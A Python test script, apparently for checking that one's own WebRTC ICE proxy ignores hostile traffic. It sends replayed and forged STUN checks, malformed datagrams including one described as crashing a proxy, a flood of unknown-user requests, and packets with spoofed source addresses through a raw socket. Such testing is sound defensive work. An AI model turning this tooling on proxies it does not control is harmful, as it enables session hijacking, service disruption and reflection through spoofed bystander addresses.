"""Sends a proxy's UDP port what must lead to nothing, from here and from addresses that are others'.

Says how many datagrams each kind of attack sent, and how many came back.
"""

import argparse
import asyncio
import os
import socket
import struct
import time
from collections.abc import Iterator

import ice
from aioice import stun
from aiortc import RTCPeerConnection
from whip import Session

COUNT = 200
"""Datagrams of each kind; few enough for no queue to overflow."""

FLOOD = 5000
"""Requests with ufrags of nobody."""

BURST = 20
"""Datagrams between two pauses of a millisecond."""


def altered(captured: bytes) -> bytes:
    """A captured check as another transaction: its integrity does not fit any more, its fingerprint does."""
    message = stun.parse_message(captured)
    message.transaction_id = os.urandom(12)
    message.add_fingerprint()
    return bytes(message)


def media() -> Iterator[bytes]:
    """RTP, RTCP, the beginning of DTLS handshakes, and DTLS alerts, as nobody sends them before a check."""
    while True:
        yield b"\x80\x60" + os.urandom(200)
        yield b"\x80\xc9" + os.urandom(26)
        yield b"\x16\xfe\xfd" + bytes(8) + b"\x00\x40" + os.urandom(64)
        yield b"\x15\xfe\xfd" + bytes(8) + b"\x00\x02\x01\x00"


def broken() -> Iterator[bytes]:
    """Datagrams that are hardly anything. The first panics the proxy that this one follows."""
    while True:
        yield b"\x00\x01\x00\x01\x21\x12\xa4\x42" + bytes(13)
        yield b"\x00\x01\x00\x08\x21\x12\xa4\x42" + bytes(12) + b"\x00\x06\xff\xff"
        yield os.urandom(40)
        yield b"\x00"


class Attacker:
    """Sockets of this machine, and one that says what it likes of where it is."""

    def __init__(self, proxy: ice.Address) -> None:
        self.proxy = proxy
        self.own = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(4)]
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0

    def send(self, datagram: bytes, source: ice.Address | None = None) -> None:
        """Sends from one of the sockets, or as if from `source`."""
        if source is None:
            self.own[self.sent % len(self.own)].sendto(datagram, self.proxy)
        else:
            udp = struct.pack("!HHHH", source[1], self.proxy[1], 8 + len(datagram), 0)
            ends = socket.inet_aton(source[0]) + socket.inet_aton(self.proxy[0])
            # The kernel fills in length, identification and checksum.
            ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0)
            self.raw.sendto(ip + ends + udp + datagram, self.proxy)
        self.sent += 1
        if self.sent % BURST == 0:
            time.sleep(0.001)

    def came_back(self) -> int:
        """How many datagrams the sockets got, a second after the last was sent."""
        time.sleep(1)
        count = 0
        for one in self.own:
            one.setblocking(False)
            try:
                while one.recv(2000):
                    count += 1
            except BlockingIOError:
                pass
        return count


def attack(attacker: Attacker, captured: bytes, victim: ice.Address, bystander: str) -> None:
    """All kinds, one after the other."""
    username = stun.parse_message(captured).attributes["USERNAME"]
    neighbour = (victim[0], victim[1] ^ 1)
    for kind, datagrams, sources in (
        ("replayed", (captured for _ in range(COUNT)), [None, (bystander, 5000), neighbour]),
        ("guessed", (ice.check(username, os.urandom(24)) for _ in range(COUNT)), [None, (bystander, 5000), victim]),
        ("unsigned", (ice.check(username, None) for _ in range(COUNT)), [None, (bystander, 5000), victim]),
        ("altered", (altered(captured) for _ in range(COUNT)), [None, (bystander, 5000), victim]),
        ("media", (datagram for _, datagram in zip(range(COUNT), media())), [None, (bystander, 5000), neighbour]),
        ("broken", (datagram for _, datagram in zip(range(COUNT), broken())), [None, (bystander, 5000)]),
        ("unknown", (ice.check(f"{os.urandom(4).hex()}:abcd", bytes(24)) for _ in range(FLOOD)), [None]),
    ):
        for number, datagram in enumerate(datagrams):
            attacker.send(datagram, sources[number % len(sources)])
        print(f"sent {kind}")


async def own_session(attacker: Attacker, url: str) -> None:
    """What is allowed, to see that it would be seen: a session of one's own moves with its checks, and is answered."""
    pc = RTCPeerConnection()
    pc.addTransceiver("video", direction="recvonly")
    await pc.setLocalDescription()
    offer = pc.localDescription.sdp
    session = Session.create(url, offer, None)

    username = f"{ice.attribute(session.answer, 'ice-ufrag')}:{ice.attribute(offer, 'ice-ufrag')}"
    key = ice.attribute(session.answer, "ice-pwd").encode()
    first = ice.check(username, key)
    answered = 0
    for place, datagram in ((0, first), (1, ice.check(username, key)), (2, first)):
        one = attacker.own[place]
        one.settimeout(1.5)
        one.sendto(datagram, attacker.proxy)
        try:
            answered += stun.parse_message(one.recv(2000)).message_class == stun.Class.RESPONSE
        except TimeoutError:
            pass
        time.sleep(1.1)
    print(f"own session: {answered} answers")
    session.delete()
    await pc.close()


def main() -> None:
    """One run."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("proxy", type=ice.address, help="its UDP port")
    parser.add_argument("--own", help="WHEP endpoint: only what is allowed, with a session of one's own")
    parser.add_argument("--captured", type=bytes.fromhex, help="a check of the victim")
    parser.add_argument("--victim", type=ice.address, help="where the victim's media comes to")
    parser.add_argument("--bystander", help="who has nothing to do with it")
    choice = parser.parse_args()
    attacker = Attacker(choice.proxy)
    if choice.own:
        asyncio.run(own_session(attacker, choice.own))
    else:
        attack(attacker, choice.captured, choice.victim, choice.bystander)
        print(f"came back {attacker.came_back()}")


main()
